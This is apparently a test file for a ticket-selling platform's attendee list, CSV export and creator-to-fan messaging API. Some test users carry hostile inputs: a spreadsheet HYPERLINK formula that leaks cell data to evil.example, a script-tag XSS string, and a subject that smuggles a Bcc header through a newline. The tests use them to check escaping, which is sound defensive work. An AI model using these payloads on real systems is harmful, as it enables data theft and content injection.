import type { Attendee, AttendeeMessagePreview } from '@stagedoor/shared/attendees';
import {
  MESSAGE_BODY_MAX_LENGTH,
  MESSAGE_SUBJECT_MAX_LENGTH,
  MESSAGES_PER_CREATOR_PER_DAY,
  MESSAGES_PER_EVENT_PER_HOUR,
} from '@stagedoor/shared/attendees';
import type { ErrorBody } from '@stagedoor/shared/errors';
import type { OrderStatus } from '@stagedoor/shared/orders';
import { and, eq, like } from 'drizzle-orm';
import { afterAll, describe, expect, it } from 'vitest';
import {
  api,
  authHeader,
  buyTicketsOk,
  createCreator,
  createEvent,
  createUser,
  eventWithSales,
  firstTicketTypeId,
  type TestAccount,
} from '../../../test/factories';
import { createTestApp } from '../../../test/test-app';
import { attendeeMessages, orders, outbox } from '../../db/schema';

// Mail stays queued, with its facts, for the tests to read.
const app = await createTestApp({ MAIL_INTERVAL_MS: '2147483647' });
afterAll(() => app.close());

const get = (account: TestAccount | null, url: string) =>
  api(app, { method: 'GET', url, headers: account ? authHeader(account.token) : {} });

const post = (account: TestAccount | null, url: string, payload: unknown) =>
  api(app, {
    method: 'POST',
    url,
    payload: payload as object,
    headers: account ? authHeader(account.token) : {},
  });

async function attendeesOf(creator: TestAccount, eventId: number, query = ''): Promise<Attendee[]> {
  const response = await get(creator, `/api/events/${eventId}/attendees${query}`);
  expect(response.statusCode, response.body).toBe(200);
  return response.json<Attendee[]>();
}

const setStatus = (orderId: number, status: OrderStatus) =>
  app.deps.db.update(orders).set({ status }).where(eq(orders.id, orderId));

/** The creator-message mails queued for the event's ticket holders. */
const messagesMailed = async (eventId: number) =>
  (await app.deps.db.select().from(outbox).where(eq(outbox.kind, 'creator-message'))).filter(
    ({ data }) => data.eventId === eventId,
  );

const messageRows = (eventId: number) =>
  app.deps.db.select().from(attendeeMessages).where(eq(attendeeMessages.eventId, eventId));

const aMessage = { subject: 'Doors open early', body: 'See you at 7.\n\nBring your questions!' };

/**
 * An event of a new creator with an order of every status: Ada (2 tickets, then 1 more), Bo, Cy and Dee
 * bought; Bo's order was refunded, Cy's disputed, Dee's left pending and Eve's expired.
 */
async function eventWithEveryStatus() {
  const creator = await createCreator(app, { firstName: 'Grace', lastName: 'Hopper' });
  const event = await createEvent(app, creator, { name: 'Jazz Night' });
  const fan = (firstName: string, lastName: string) =>
    createUser(app, {
      firstName,
      lastName,
      email: `${firstName.toLowerCase()}-${crypto.randomUUID()}@example.test`,
    });
  const [ada, bo, cy, dee, eve] = await Promise.all([
    fan('Ada', 'Lovelace'),
    fan('Bo', 'Diddley'),
    fan('Cy', 'Twombly'),
    fan('Dee', 'Dee'),
    fan('Eve', 'Arden'),
  ]);
  const adaFirst = await buyTicketsOk(app, ada, event.id, 2);
  const refunded = await buyTicketsOk(app, bo, event.id, 1);
  const disputed = await buyTicketsOk(app, cy, event.id, 1);
  const pending = await buyTicketsOk(app, dee, event.id, 1);
  const expired = await buyTicketsOk(app, eve, event.id, 1);
  const adaSecond = await buyTicketsOk(app, ada, event.id, 1);
  await setStatus(refunded.id, 'refunded');
  await setStatus(disputed.id, 'disputed');
  await setStatus(pending.id, 'pending');
  await setStatus(expired.id, 'expired');
  return { creator, event, ada, bo, cy, dee, eve, orders: { adaFirst, adaSecond, refunded, disputed } };
}

describe('GET /events/{id}/attendees', () => {
  it('lists the orders that are or were tickets, newest first, with their holders', async () => {
    const { creator, event, ada, bo, cy, orders: placed } = await eventWithEveryStatus();
    const row = (account: TestAccount, orderId: number, tickets: number, status: Attendee['status']) => ({
      orderId,
      name: `${account.user.firstName} ${account.user.lastName}`,
      email: account.email,
      tickets,
      type: 'General admission',
      orderedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      status,
    });
    expect(await attendeesOf(creator, event.id)).toEqual([
      row(ada, placed.adaSecond.id, 1, 'completed'),
      row(cy, placed.disputed.id, 1, 'disputed'),
      row(bo, placed.refunded.id, 1, 'refunded'),
      row(ada, placed.adaFirst.id, 2, 'completed'),
    ]);
    const [newest] = await attendeesOf(creator, event.id);
    expect(newest?.orderedAt).toBe(placed.adaSecond.createdAt);
  });

  it('pages the list as the API pages every list', async () => {
    const { creator, event, orders: placed } = await eventWithEveryStatus();
    const ids = (rows: Attendee[]) => rows.map(({ orderId }) => orderId);
    expect(ids(await attendeesOf(creator, event.id, '?limit=2'))).toEqual([
      placed.adaSecond.id,
      placed.disputed.id,
    ]);
    expect(ids(await attendeesOf(creator, event.id, '?limit=2&offset=2'))).toEqual([
      placed.refunded.id,
      placed.adaFirst.id,
    ]);
    expect(await attendeesOf(creator, event.id, '?offset=4')).toEqual([]);

    const refused = await get(creator, `/api/events/${event.id}/attendees?limit=0&offset=-1`);
    expect(refused.statusCode).toBe(400);
    expect(refused.json<ErrorBody>().fields).toEqual({
      limit: 'limit must be at least 1',
      offset: 'offset must be at least 0',
    });
  });

  it('searches the holder’s name and email, in any case and with any accents, trimmed', async () => {
    const creator = await createCreator(app);
    const event = await createEvent(app, creator);
    const zoe = await createUser(app, {
      firstName: 'Zoë',
      lastName: 'Saldaña',
      email: `zoe.s-${crypto.randomUUID()}@Example.test`,
    });
    const max = await createUser(app, {
      firstName: 'Max',
      lastName: '100% Fan',
      email: `max_fan-${crypto.randomUUID()}@example.test`,
    });
    await buyTicketsOk(app, zoe, event.id, 1);
    await buyTicketsOk(app, max, event.id, 1);
    const found = async (search: string) =>
      (await attendeesOf(creator, event.id, `?search=${encodeURIComponent(search)}`)).map(({ name }) => name);

    expect(await found('  zoe saldana ')).toEqual(['Zoë Saldaña']);
    expect(await found('ZOË')).toEqual(['Zoë Saldaña']);
    expect(await found('zoe.s-')).toEqual(['Zoë Saldaña']);
    expect(await found('100%')).toEqual(['Max 100% Fan']);
    // LIKE's wildcards are taken as they are typed: `_` is no "any character", `%` no "anything".
    expect(await found('max_fan')).toEqual(['Max 100% Fan']);
    expect(await found('zoe_s')).toEqual([]);
    expect(await found('%')).toEqual(['Max 100% Fan']);
    expect(await found('nobody')).toEqual([]);
    expect(await found('   ')).toHaveLength(2);

    const tooLong = await get(creator, `/api/events/${event.id}/attendees?search=${'a'.repeat(101)}`);
    expect(tooLong.statusCode).toBe(400);
    expect(tooLong.json<ErrorBody>().fields).toEqual({ search: 'search must be at most 100 characters' });
  });

  it('is its creator’s alone: another creator and fans are refused as at every owner route', async () => {
    const { creator, event, fans } = await eventWithSales(app, { sales: [1] });
    const other = await createCreator(app);
    for (const url of [`/api/events/${event.id}/attendees`, `/api/events/${event.id}/attendees.csv`]) {
      expect((await get(null, url)).statusCode).toBe(401);
      expect((await get(fans[0], url)).statusCode).toBe(403);
      const refused = await get(other, url);
      expect(refused.statusCode).toBe(403);
      expect(refused.json<ErrorBody>().message).toBe('You can only manage your own events');
      expect(refused.body).not.toContain(fans[0].email);
      expect((await get(creator, url)).statusCode).toBe(200);
    }
    const missing = await get(creator, '/api/events/2147483647/attendees');
    expect(missing.statusCode).toBe(404);
    expect(missing.json<ErrorBody>().message).toBe('Event not found');
  });
});

describe('GET /events/{id}/attendees.csv', () => {
  it('is every row as RFC 4180 CSV, with hostile names kept out of the spreadsheet’s formulas', async () => {
    const creator = await createCreator(app);
    const event = await createEvent(app, creator, { name: 'Jazz Night: "Live"/Ünïcode' });
    const mallory = await createUser(app, {
      firstName: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      lastName: 'Smith, "the Third"\nof Nowhere',
      email: `mallory-${crypto.randomUUID()}@example.test`,
    });
    const plus = await createUser(app, {
      firstName: '+1',
      lastName: '-2',
      email: `+plus-${crypto.randomUUID()}@example.test`,
    });
    const first = await buyTicketsOk(app, mallory, event.id, 2);
    const second = await buyTicketsOk(app, plus, event.id, 1);

    const response = await get(creator, `/api/events/${event.id}/attendees.csv`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="attendees-jazz-night-live-unicode-${event.id}.csv"`,
    );
    expect(response.body).toBe(
      'orderId,name,email,tickets,type,orderedAt,status\r\n' +
        `${second.id},'+1 -2,'${plus.email},1,General admission,${second.createdAt},completed\r\n` +
        `${first.id},"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"") Smith, ""the Third""\nof Nowhere",${mallory.email},2,General admission,${first.createdAt},completed\r\n`,
    );
  });

  it('writes every row of an event of thousands of orders, each once, newest first', async () => {
    const { creator, event, fans } = await eventWithSales(app, { sales: [1] });
    const [fan] = fans;
    const many = 2_345;
    await app.deps.db.insert(orders).values(
      Array.from({ length: many }, () => ({
        accountId: fan.user.id,
        eventId: event.id,
        ticketTypeId: firstTicketTypeId(event),
        quantity: 1,
        unitPriceCents: 1000,
        totalCents: 1000,
        status: 'completed' as const,
      })),
    );
    const response = await get(creator, `/api/events/${event.id}/attendees.csv`);
    expect(response.statusCode).toBe(200);
    const lines = response.body.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe('orderId,name,email,tickets,type,orderedAt,status');
    const ids = lines.slice(1).map((line) => Number(line.split(',')[0]));
    expect(ids).toHaveLength(many + 1);
    expect(new Set(ids).size).toBe(many + 1);
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
  });

  it('is a header alone for an event with no tickets sold', async () => {
    const creator = await createCreator(app);
    const event = await createEvent(app, creator);
    const response = await get(creator, `/api/events/${event.id}/attendees.csv`);
    expect(response.body).toBe('orderId,name,email,tickets,type,orderedAt,status\r\n');
  });
});

describe('POST /events/{id}/message', () => {
  it('mails every ticket holder once, and nobody whose order is refunded, disputed, pending or expired', async () => {
    const { creator, event, ada } = await eventWithEveryStatus();
    const response = await post(creator, `/api/events/${event.id}/message`, {
      subject: '  Doors open early ',
      body: ' See you at 7.\n\nBring your questions! ',
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toEqual({ recipients: 1 });

    const mailed = await messagesMailed(event.id);
    expect(mailed.map(({ toAddress }) => toAddress)).toEqual([ada.email]);
    expect(mailed[0]?.data).toEqual({
      firstName: 'Ada',
      timeZone: ada.user.timeZone,
      eventId: event.id,
      eventName: 'Jazz Night',
      eventDate: event.date,
      creatorName: 'Grace Hopper',
      subject: 'Doors open early',
      body: 'See you at 7.\n\nBring your questions!',
      watchToken: expect.any(String),
    });
    const [row] = await messageRows(event.id);
    expect(row).toMatchObject({
      creatorId: creator.user.id,
      subject: 'Doors open early',
      body: 'See you at 7.\n\nBring your questions!',
      recipients: 1,
    });
  });

  it('shows its creator the mail a fan gets, and how many fans it goes to, before it is sent', async () => {
    const { creator, event, fans } = await eventWithSales(app, { sales: [1, 2] });
    const response = await post(creator, `/api/events/${event.id}/message/preview`, {
      subject: 'Set list <b>inside</b>',
      body: 'First line\nsecond line\n\n<script>alert(1)</script>',
    });
    expect(response.statusCode, response.body).toBe(200);
    const preview = response.json<AttendeeMessagePreview>();
    expect(preview.recipients).toBe(2);
    expect(preview.subject).toBe(`${event.name}: Set list <b>inside</b>`);
    expect(preview.html).toContain('Set list &#60;b&#62;inside&#60;/b&#62;');
    expect(preview.html).toContain('First line\nsecond line</p>');
    expect(preview.html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
    expect(preview.html).not.toContain('<script>');
    expect(preview.text).toContain('First line\nsecond line\n\n<script>alert(1)</script>');
    expect(preview.text).toContain(`Go to the show: http`);
    // Nothing is queued by a preview.
    expect(await messagesMailed(event.id)).toEqual([]);
    expect(fans).toHaveLength(2);
  });

  it('names each invalid field', async () => {
    const { creator, event } = await eventWithSales(app);
    for (const url of [`/api/events/${event.id}/message`, `/api/events/${event.id}/message/preview`]) {
      const empty = await post(creator, url, { subject: '   ', body: '' });
      expect(empty.statusCode).toBe(400);
      expect(empty.json<ErrorBody>()).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: { subject: 'Subject is required', body: 'Message is required' },
      });
      const missing = await post(creator, url, {});
      expect(missing.json<ErrorBody>().fields).toEqual({
        subject: 'Subject is required',
        body: 'Message is required',
      });
      const tooLong = await post(creator, url, {
        subject: 's'.repeat(MESSAGE_SUBJECT_MAX_LENGTH + 1),
        body: 'b'.repeat(MESSAGE_BODY_MAX_LENGTH + 1),
      });
      expect(tooLong.json<ErrorBody>().fields).toEqual({
        subject: 'Subject must be at most 150 characters',
        body: 'Message must be at most 5000 characters',
      });
      const twoLines = await post(creator, url, { subject: 'Hello\nBcc: everyone', body: 'Hi' });
      expect(twoLines.json<ErrorBody>().fields).toEqual({ subject: 'Subject must be one line' });
      const notText = await post(creator, url, { subject: 42, body: ['Hi'] });
      expect(notText.json<ErrorBody>().fields).toEqual({
        subject: 'Subject is required',
        body: 'Message is required',
      });
    }
    const longest = await post(creator, `/api/events/${event.id}/message`, {
      subject: 's'.repeat(MESSAGE_SUBJECT_MAX_LENGTH),
      body: 'b'.repeat(MESSAGE_BODY_MAX_LENGTH),
    });
    expect(longest.statusCode, longest.body).toBe(200);
    expect(await messageRows(event.id)).toHaveLength(1);
  });

  it('is its creator’s alone', async () => {
    const { creator, event, fans } = await eventWithSales(app, { sales: [1] });
    const other = await createCreator(app);
    for (const url of [`/api/events/${event.id}/message`, `/api/events/${event.id}/message/preview`]) {
      expect((await post(null, url, aMessage)).statusCode).toBe(401);
      expect((await post(fans[0], url, aMessage)).statusCode).toBe(403);
      const refused = await post(other, url, aMessage);
      expect(refused.statusCode).toBe(403);
      expect(refused.json<ErrorBody>().message).toBe('You can only manage your own events');
    }
    expect((await post(creator, '/api/events/2147483647/message', aMessage)).statusCode).toBe(404);
    expect(await messagesMailed(event.id)).toEqual([]);
  });

  it('is refused when nobody holds a ticket, and nothing is recorded', async () => {
    const { creator, event, fans } = await eventWithSales(app, { sales: [1] });
    const [order] = await app.deps.db.select().from(orders).where(eq(orders.accountId, fans[0].user.id));
    await setStatus(order?.id ?? 0, 'refunded');
    const response = await post(creator, `/api/events/${event.id}/message`, aMessage);
    expect(response.statusCode).toBe(409);
    expect(response.json<ErrorBody>().message).toBe(
      'Nobody holds a ticket to this event: there is no one to write to yet.',
    );
    expect(await messageRows(event.id)).toEqual([]);
    expect(await messagesMailed(event.id)).toEqual([]);
  });
});

describe('how often a creator may write', () => {
  it(`takes ${MESSAGES_PER_EVENT_PER_HOUR} messages an hour per event, then says how long to wait`, async () => {
    const { creator, event } = await eventWithSales(app, { sales: [1] });
    const other = await createEvent(app, creator);
    await buyTicketsOk(app, await createUser(app), other.id, 1);
    for (let sent = 0; sent < MESSAGES_PER_EVENT_PER_HOUR; sent += 1) {
      expect((await post(creator, `/api/events/${event.id}/message`, aMessage)).statusCode).toBe(200);
    }
    const refused = await post(creator, `/api/events/${event.id}/message`, aMessage);
    expect(refused.statusCode).toBe(429);
    expect(refused.json<ErrorBody>()).toMatchObject({
      code: 'RATE_LIMITED',
      message:
        "This event's ticket holders were written 3 times in the last hour, the most there may be. Please try again in 60 minutes.",
    });
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(3500);
    expect(await messageRows(event.id)).toHaveLength(MESSAGES_PER_EVENT_PER_HOUR);
    expect(await messagesMailed(event.id)).toHaveLength(MESSAGES_PER_EVENT_PER_HOUR);
    // Another event of the creator's has its own hour.
    expect((await post(creator, `/api/events/${other.id}/message`, aMessage)).statusCode).toBe(200);

    // An hour after the oldest, one more may go.
    const [oldest] = await messageRows(event.id);
    await app.deps.db
      .update(attendeeMessages)
      .set({ createdAt: new Date(Date.now() - 61 * 60_000) })
      .where(eq(attendeeMessages.id, oldest?.id ?? 0));
    expect((await post(creator, `/api/events/${event.id}/message`, aMessage)).statusCode).toBe(200);
  });

  it(`takes ${MESSAGES_PER_CREATOR_PER_DAY} messages a day per creator, over all their events`, async () => {
    const { creator, event } = await eventWithSales(app, { sales: [1] });
    const other = await createEvent(app, creator);
    // Sent over the last day, about another event (3 an hour for that one would refuse them).
    await app.deps.db.insert(attendeeMessages).values(
      Array.from({ length: MESSAGES_PER_CREATOR_PER_DAY }, (_, index) => ({
        eventId: other.id,
        creatorId: creator.user.id,
        subject: 'Earlier',
        body: 'Earlier',
        recipients: 1,
        createdAt: new Date(Date.now() - (23 - index) * 60 * 60_000),
      })),
    );
    const refused = await post(creator, `/api/events/${event.id}/message`, aMessage);
    expect(refused.statusCode).toBe(429);
    expect(refused.json<ErrorBody>().message).toBe(
      'You wrote to ticket holders 10 times in the last 24 hours, the most there may be. Please try again in 60 minutes.',
    );
    expect(await messagesMailed(event.id)).toEqual([]);
  });

  // Twenty at once: on PostgreSQL, ten transactions (the pool's connections) decide side by side. Without
  // the lock of the creator's account, each of the ten reads two sent and sends (seen in 6 runs of 6).
  it('holds when messages are sent at once: of twenty with one left, one goes', async () => {
    const { creator, event } = await eventWithSales(app, { sales: [1, 1, 1] });
    for (let sent = 1; sent < MESSAGES_PER_EVENT_PER_HOUR; sent += 1) {
      expect((await post(creator, `/api/events/${event.id}/message`, aMessage)).statusCode).toBe(200);
    }
    const answers = await Promise.all(
      Array.from({ length: 20 }, () => post(creator, `/api/events/${event.id}/message`, aMessage)),
    );
    expect(answers.map(({ statusCode }) => statusCode).sort()).toEqual([200, ...Array(19).fill(429)]);
    expect(await messageRows(event.id)).toHaveLength(MESSAGES_PER_EVENT_PER_HOUR);
    expect(await messagesMailed(event.id)).toHaveLength(MESSAGES_PER_EVENT_PER_HOUR * 3);
  });
});

describe('the mail of a message', () => {
  it('is one per account, with a watch link of the holder’s newest order', async () => {
    const { creator, event, fans } = await eventWithSales(app, { sales: [1, 1] });
    await buyTicketsOk(app, fans[0], event.id, 1);
    const response = await post(creator, `/api/events/${event.id}/message`, aMessage);
    expect(response.json()).toEqual({ recipients: 2 });
    const mailed = await messagesMailed(event.id);
    expect(mailed.map(({ toAddress }) => toAddress).sort()).toEqual(fans.map(({ email }) => email).sort());
    const [message] = await messageRows(event.id);
    expect(
      await app.deps.db
        .select({ key: outbox.key })
        .from(outbox)
        .where(
          and(like(outbox.key, `creator-message:${message?.id}:%`), eq(outbox.toAddress, fans[0].email)),
        ),
    ).toEqual([{ key: `creator-message:${message?.id}:account:${fans[0].user.id}` }]);
  });
});
